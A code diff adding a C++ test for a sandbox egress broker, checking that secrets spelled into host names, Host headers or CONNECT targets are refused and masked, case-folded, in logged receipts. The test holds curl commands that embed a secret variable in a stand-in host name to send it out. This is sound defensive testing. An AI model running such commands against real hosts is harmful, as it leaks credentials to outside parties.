@@ -12,6 +12,7 @@
 
 #include <algorithm>
 #include <atomic>
+#include <cctype>
 #include <condition_variable>
 #include <functional>
 #include <mutex>
@@ -147,6 +148,34 @@ TEST(EgressLive, WithoutEgressTheBoxHasNoRouteOut) {
     EXPECT_THAT(t.result.out, ::testing::StartsWith("[]\n"));
     EXPECT_THAT(t.result.out, ::testing::Not(HasSubstr("hello")));
     EXPECT_EQ(up_.requests(), 0);
+}
+
+// The broker folds the case of the names the box asks for (URL host, CONNECT target, Host
+// header); a mixed-case secret the box spells into one (curl https://$TOKEN.example) reaches the
+// receipts folded, and is masked there as the value is (Form::cased, docs/design.md §9.7).
+TEST(EgressLive, ASecretTheBoxSpellsIntoAHostNameIsMaskedInItsReceiptsFolded) {
+    test::LoopbackHttpServer up_("127.0.0.2", kHello);
+    const std::string port = std::to_string(up_.port());
+    test::RadialdSetup s("", egress_table(port));
+    const std::string secret = "Zq8wX41pL0kSECRETvalue77";
+    auto t = s.turn(
+        {"--egress", "pkg.test:" + port, "--secret", "EG_SECRET"},
+        {"sh", "-c",
+         "curl -s -o /dev/null http://$EG_SECRET.pkg.test:" + port +
+             "/; curl -s -o /dev/null -H \"Host: $EG_SECRET\" http://pkg.test:" + port +
+             "/; curl -sp -o /dev/null https://$EG_SECRET.pkg.test:" + port + "/; echo done"},
+        {{"EG_SECRET", secret}});
+    EXPECT_EQ(t.result.exit_code, 0) << t.result.err;
+    EXPECT_EQ(t.result.out, "done\n") << t.result.err;
+    const auto rs = receipts(s, t.record);
+    ASSERT_EQ(rs.size(), 3u) << s.records(t.record["turnId"]).dump();
+    std::string folded = secret;
+    for (char& c : folded) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
+    for (const auto& r : rs) {
+        EXPECT_EQ(r["verdict"], "refused") << r.dump();
+        EXPECT_THAT(r.dump(), ::testing::Not(HasSubstr(folded))) << r.dump();
+        EXPECT_THAT(r.dump(), HasSubstr("[REDACTED:EG_SECRET]")) << r.dump();
+    }
 }
 
 TEST(EgressLive, ADestinationOutsideTheCeilingIsRefusedBeforeAnyBox) {
